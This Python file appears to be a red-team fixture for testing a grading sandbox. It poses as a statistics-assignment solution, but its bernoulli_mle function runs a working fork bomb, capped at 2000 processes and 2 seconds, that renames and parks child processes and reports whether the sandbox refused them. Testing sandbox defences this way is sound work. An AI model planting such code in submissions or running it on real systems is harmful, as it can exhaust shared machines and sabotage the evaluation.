"""ATTACK: a fork bomb — fork until the system refuses, every child renamed and sleeping;
then report how many processes it got (capped at 2000 processes and 2 s — within the test's
time limit — so that a failing defence is detected without taking the machine down).

honest part: 0 points

proof: bernoulli_mle() raised RuntimeError: RT-RAN forked | bernoulli_mle() timed out after
"""
import ctypes
import os
import time

MARK = b"rtmark-fork"


def _bomb():
    n, refused = 0, False
    stop = time.monotonic() + 2
    while n < 2000 and time.monotonic() < stop:
        try:
            pid = os.fork()
        except OSError:
            refused = True
            break
        if pid == 0:
            try:
                ctypes.CDLL(None).prctl(15, MARK, 0, 0, 0)
            except Exception:
                pass
            time.sleep(60)
            os._exit(0)
        n += 1
    if n >= 1000:
        raise RuntimeError(f"RT-ESCAPED forked {n} processes")
    raise RuntimeError(f"RT-RAN forked {n} processes, then "
                       + ("the system refused" if refused else "ran out of time"))


def bernoulli_log_likelihood(theta, x):
    raise NotImplementedError


def bernoulli_mle(x):
    _bomb()


def gaussian_log_pdf(x, mu, var):
    raise NotImplementedError


def gaussian_mle(x):
    raise NotImplementedError


def mvn_mle(x):
    raise NotImplementedError


def mvn_log_pdf(x, mu, cov):
    raise NotImplementedError("write your solution here")
